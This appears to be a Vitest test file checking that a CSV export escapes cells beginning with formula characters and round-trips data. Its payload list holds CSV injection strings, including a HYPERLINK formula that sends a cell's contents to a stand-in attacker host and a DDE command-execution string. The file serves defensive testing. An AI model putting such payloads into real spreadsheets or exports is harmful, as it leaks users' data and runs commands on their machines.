import { csvParseRows } from "d3-dsv";
import { describe, expect, it } from "vitest";
import { escapeFormula, unescapeFormula } from "../../../src/io/csv/formulas";
import { parseDataset } from "../../../src/io/parseDataset";
import { readCsv } from "../../../src/io/readCsv";
import { writeCsv } from "../../../src/io/writeCsv";

const payloads = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "'=already quoted",
  "''-two quotes",
  "plain 'quote' inside",
];

function hostile() {
  const { data, issues } = parseDataset({
    title: payloads[0],
    sources: [
      { id: "s1", publisher: payloads[3], title: payloads[1], url: "https://example.org/" },
    ],
    actors: [{ id: "a1", name: payloads[2], kind: "agency" }],
    events: payloads.map((title, i) => ({
      id: `e${i}`,
      kind: "operation",
      title,
      summary: payloads[(i + 1) % payloads.length],
      when: "2024",
      sources: ["s1"],
      extra: { note: payloads[(i + 2) % payloads.length]! },
    })),
  });
  expect(issues.filter((i) => i.severity === "error")).toEqual([]);
  return data!;
}

describe("writeCsv(dataset, { formulas })", () => {
  it("writeCsv(dataset) escapes every cell that starts like a formula with a leading '", () => {
    const cells = csvParseRows(writeCsv(hostile())).flat();
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain(`'${payloads[0]}`);
    expect(cells).toContain("'@SUM(1+1)");
    expect(cells).toContain("'''-two quotes");
    expect(cells).toContain("plain 'quote' inside");
  });

  it("writeCsv(dataset, { formulas: 'exact' }) writes every cell as it is", () => {
    const cells = csvParseRows(writeCsv(hostile(), { formulas: "exact" })).flat();
    for (const payload of payloads) expect(cells).toContain(payload);
  });

  it("readCsv(writeCsv(dataset)) gives the dataset back exactly, escapes removed", () => {
    const data = hostile();
    const { data: again, issues } = readCsv(writeCsv(data));
    expect(issues).toEqual([]);
    expect(again).toEqual(data);
  });

  it("unescapeFormula(escapeFormula(cell)) is the cell, for quotes before formula characters too", () => {
    for (const cell of [...payloads, "", "'", "''", "'a", "-", "a=b"]) {
      expect(unescapeFormula(escapeFormula(cell))).toBe(cell);
    }
  });
});
